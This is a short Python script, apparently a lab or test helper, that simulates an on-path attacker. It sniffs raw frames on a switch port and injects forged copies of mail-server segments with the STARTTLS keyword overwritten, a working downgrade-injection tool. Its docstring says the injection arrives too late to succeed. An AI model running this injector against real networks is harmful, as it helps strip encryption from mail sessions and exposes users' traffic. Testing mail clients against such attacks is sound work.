"""Somebody on the path who injects packets: each segment of a mail server that has the word STARTTLS in it is sent to the
client once more, with the word overwritten. It comes too late: the client has the server's own by then.

  inject.py FROM TO     the switch's ports of the server and of the client
"""
import socket, struct, sys

ETHERNET, IPV4 = 14, 20


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    return ~(total % 0xFFFF) & 0xFFFF


def forged(frame):
    tcp = frame[ETHERNET + IPV4:].replace(b"STARTTLS", b"XXXXXXXA")
    addresses = frame[ETHERNET + 12:ETHERNET + IPV4]
    tcp = tcp[:16] + b"\0\0" + tcp[18:]
    whole = addresses + struct.pack("!HH", socket.IPPROTO_TCP, len(tcp)) + tcp
    tcp = tcp[:16] + struct.pack("!H", checksum(whole + b"\0" * (len(whole) % 2))) + tcp[18:]
    return frame[:ETHERNET + IPV4] + tcp


ALL = 3  # ETH_P_ALL
source, target = (socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ALL)) for _ in range(2))
source.bind((sys.argv[1], ALL))
target.bind((sys.argv[2], 0))
print("ready", flush=True)
while True:
    frame, (_, _, kind, *_) = source.recvfrom(65536)
    if kind != socket.PACKET_OUTGOING and b"STARTTLS" in frame:
        target.send(forged(frame))
